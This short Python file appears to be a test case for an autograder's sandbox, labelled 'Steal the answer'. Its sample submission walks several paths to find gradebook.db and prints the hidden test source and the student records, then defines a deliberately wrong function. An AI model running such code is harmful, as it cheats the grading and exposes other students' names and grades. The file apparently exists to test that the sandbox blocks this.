"""The gradebook is read: hidden tests, names, other grades."""

CATEGORY = "Steal the answer"
POINTS = 0
SOLUTION = """
import sqlite3

for path in ('../../../gradebook.db', '../../gradebook.db', '/gradebook.db'):
    try:
        base = sqlite3.connect(f'file:{path}?mode=ro', uri=True)
        print(base.execute('select source from source_cell').fetchall())
        print(base.execute('select * from student').fetchall())
    except sqlite3.Error as error:
        print(error)
def center(X):
    return X * 0
"""
